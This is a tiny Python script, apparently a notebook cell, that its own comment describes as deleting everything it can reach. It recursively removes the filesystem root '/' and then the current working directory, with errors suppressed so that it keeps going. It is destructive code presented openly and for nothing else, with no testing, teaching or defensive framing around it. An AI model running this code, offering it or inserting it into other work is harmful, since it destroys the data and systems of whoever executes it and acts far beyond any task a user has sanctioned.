# Deletes everything that it can reach, its own folder too, and goes on.
# %% start
import os, shutil
shutil.rmtree("/", ignore_errors=True)
shutil.rmtree(os.getcwd(), ignore_errors=True)
